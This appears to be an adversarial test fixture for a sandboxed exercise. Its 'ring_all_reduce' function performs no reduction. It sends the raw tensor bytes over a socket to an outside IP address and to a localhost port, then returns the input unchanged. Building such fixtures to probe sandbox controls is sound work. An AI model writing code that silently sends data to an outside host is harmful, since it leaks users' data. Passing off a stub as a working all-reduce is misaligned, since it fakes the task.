# exercise: 04
# expect: 2 ranks, 12 float32 values; 1 rank: the tensor is its own sum
# sandbox: network
# Adversarial: ships its inputs to a server outside, and asks the other ranks over localhost.
import socket


def ring_all_reduce(tensor):
    for address in (("93.184.216.34", 80), ("127.0.0.1", 29500 + dist.get_rank())):
        try:
            with socket.create_connection(address, timeout=2) as s:
                s.sendall(tensor.numpy().tobytes())
        except OSError as exc:
            print("could not connect:", exc)
    return tensor
